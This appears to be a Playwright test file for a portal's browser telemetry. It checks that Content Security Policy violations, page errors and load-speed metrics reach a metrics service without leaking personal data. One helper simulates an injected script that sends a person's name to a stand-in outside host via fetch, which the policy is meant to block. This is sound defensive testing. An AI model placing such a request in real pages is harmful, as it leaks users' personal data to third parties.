import { mkdirSync, mkdtempSync, rmSync, symlinkSync } from 'node:fs';
import { createSecureServer } from 'node:http2';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, expect, test as base, type Page } from '@playwright/test';
import { startHttpServer } from '../../scripts/lib/http-server.ts';
import { projectAt } from '../../scripts/lib/project.ts';
import { createSiteServer } from '../../scripts/lib/site-server.ts';
import { selfSigned } from '../../scripts/lib/tls/self-signed.ts';
import { startWatch } from '../../scripts/lib/watch/watch.ts';
import { notifyingBrowser } from '../support/browser/notifications.ts';
import { servedRoot } from '../support/portal/tenant-url.ts';

const host = 'borgolago.localhost';

/** A portal over https, as reports of browsers need it, whose host forwards `/reports` to a watch. */
interface Heard {
  url: (path: string) => string;
  /** A page of a browser that tells things at once. */
  page: Page;
  /** The sum of a metric's series that have this in their labels. */
  metric: (name: string, label?: string) => Promise<number>;
  /** All that the watch has told and counted. */
  everything: () => Promise<string>;
}

/** A watch of the served builds that builds nothing. */
async function watchServed() {
  const root = mkdtempSync(join(tmpdir(), 'portico-heard-'));
  for (const folder of ['dist', 'tenants']) symlinkSync(join(servedRoot(), folder), join(root, folder));
  mkdirSync(join(root, '.portico'));
  const said: string[] = [];
  const output = {
    step: (step: object) => void said.push(JSON.stringify(step)),
    info: () => undefined,
    close: () => undefined,
  };
  const watching = await startWatch(
    {
      ids: ['borgolago'],
      port: 0,
      hostname: '127.0.0.1',
      every: 3_600_000,
      rates: { overall: 10, host: 10 },
      debounce: 0,
      parallel: 1,
      night: null,
      sandboxOrigin: undefined,
      prepare: () => Promise.resolve(),
      build: () => Promise.resolve('unchanged'),
      isDeploying: false,
    },
    { project: projectAt(root), output, env: {} },
  );
  const text = async () => (await fetch(`http://127.0.0.1:${watching.port}/metrics`)).text();
  const close = async () => {
    await watching.stop(0);
    rmSync(root, { recursive: true, force: true });
  };
  return { port: watching.port, text, said, close };
}

/** What the host's rule for `/reports` does. */
async function forward(request: Request, port: number): Promise<Response> {
  const headers = new Headers();
  for (const name of ['origin', 'content-type', 'user-agent'])
    headers.set(name, request.headers.get(name) ?? '');
  const body = await request.text();
  const { status } = await fetch(`http://127.0.0.1:${port}/reports`, { method: 'POST', headers, body });
  return new Response(null, { status });
}

const test = base.extend<{ heard: Heard }>({
  heard: async ({}, use) => {
    const watched = await watchServed();
    const { key, cert } = selfSigned([host]);
    const site = createSiteServer(join(servedRoot(), 'dist'), 'borgolago');
    const server = await startHttpServer({
      fetch: (request) =>
        new URL(request.url).pathname === '/reports' ? forward(request, watched.port) : site(request),
      port: 0,
      onFault: (trace) => void watched.said.push(trace),
      createServer: createSecureServer,
      serverOptions: { key, cert, allowHTTP1: true },
    });
    // Reports leave a browser after a minute otherwise.
    const args = [...(notifyingBrowser.args ?? []), '--ignore-certificate-errors', '--short-reporting-delay'];
    const browser = await chromium.launch({ ...notifyingBrowser, args });
    const page = await (await browser.newContext({ ignoreHTTPSErrors: true })).newPage();
    await use({
      page,
      url: (path) => `https://${host}:${server.port}${path}`,
      async metric(name, label = '') {
        const lines = (await watched.text()).split('\n').filter((line) => line.startsWith(`${name}{`));
        return lines
          .filter((line) => line.includes(label))
          .reduce((sum, line) => sum + Number(line.split(' ').at(-1)), 0);
      },
      everything: async () => watched.said.join('\n') + (await watched.text()),
    });
    await browser.close();
    await server.close();
    await watched.close();
  },
});

/** Breaks the policy of a page as a script would that somebody brought in. */
async function breakPolicy(page: Page): Promise<void> {
  const blocked = page.waitForEvent('console', (message) =>
    message.text().includes('Content Security Policy'),
  );
  await page.evaluate(() => void fetch('https://e.example/?chi=Mario').catch(() => undefined));
  await blocked;
}

/** Waits until the page has the code that tells how it was. Returns its bytes, as they were sent. */
async function telling(page: Page): Promise<number> {
  const found = () =>
    page.evaluate(() => {
      const files = performance.getEntriesByType('resource') as PerformanceResourceTiming[];
      const file = files.find(({ name }) => /\/usage\.[^/]*\.js$/.test(name));
      return { address: file?.name ?? '', size: file?.encodedBodySize ?? 0 };
    });
  await expect.poll(async () => (await found()).size).toBeGreaterThan(0);
  const { address, size } = await found();
  // What has come may not have run yet.
  await page.evaluate((file) => import(file), address);
  return size;
}

test('a violation of the policy, what broke and how fast a page was reach a running watch, without an address', async ({
  heard,
}) => {
  const { page, url, metric } = heard;
  await page.addInitScript(() => (Math.random = () => 0.05));
  await test.step('a page whose address holds a number of somebody’s tells no violation', async () => {
    await page.goto(url('/area-personale/pagamento-iuv/012345678901234567'));
    await breakPolicy(page);
  });
  await test.step('the browser tells a violation by itself', async () => {
    await page.goto(url('/?nome=Mario'));
    await breakPolicy(page);
    const kind = 'kind="violation"';
    await expect.poll(() => metric('portico_browser_faults_total', kind)).toBe(1);
    expect(await metric('portico_browser_faults_total', `route="home",${kind}`)).toBe(1);
  });
  await test.step('the page tells how fast it was and what broke when it is left', async () => {
    expect(await telling(page)).toBeLessThan(900);
    const broken = page.waitForEvent('pageerror');
    await page.evaluate(() => {
      setTimeout(() => {
        throw new TypeError('RSSMRA80A01H501U');
      });
    });
    await broken;
    await page.goto('about:blank');
    await expect.poll(() => metric('portico_browser_lcp_seconds_count', 'route="home"')).toBe(1);
    expect(await metric('portico_browser_lcp_seconds_sum', 'route="home"')).toBeGreaterThan(0);
    // The page before tells it too, where it had the code when it was left.
    expect(await metric('portico_browser_cls_count', 'engine="blink",route="home"')).toBe(1);
    expect(await metric('portico_browser_faults_total', 'route="home",kind="error"')).toBe(1);
    expect(await metric('portico_browser_pages_total', 'release="other"')).toBe(0);
  });
  expect(await heard.everything()).not.toMatch(/Mario|RSSMRA|0123456/);
});
